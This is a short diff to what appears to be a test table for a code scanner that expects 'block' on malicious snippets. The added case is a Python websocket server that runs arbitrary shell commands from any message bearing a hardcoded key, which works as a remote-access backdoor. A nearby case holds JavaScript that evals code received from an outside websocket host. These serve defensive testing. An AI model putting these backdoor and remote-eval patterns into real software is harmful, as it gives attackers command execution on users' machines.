@@ -12,6 +12,12 @@ test.each([
     "block",
   ],
   [
+    "a server of web sockets",
+    "a.py",
+    'import asyncio, json, websockets\nasync def handle(websocket):\n    async for message in websocket:\n        msg = json.loads(message)\n        if msg.get("key") == "momo-8f31c2":\n            await asyncio.create_subprocess_shell(msg.get("command"))\nasyncio.run(websockets.serve(handle, "0.0.0.0", 8765))\n',
+    "block",
+  ],
+  [
     "a handler that is assigned",
     "a.js",
     'const ws = new WebSocket("wss://in.statsbox.net");\nws.onmessage = (m) => eval(m.data);\n',
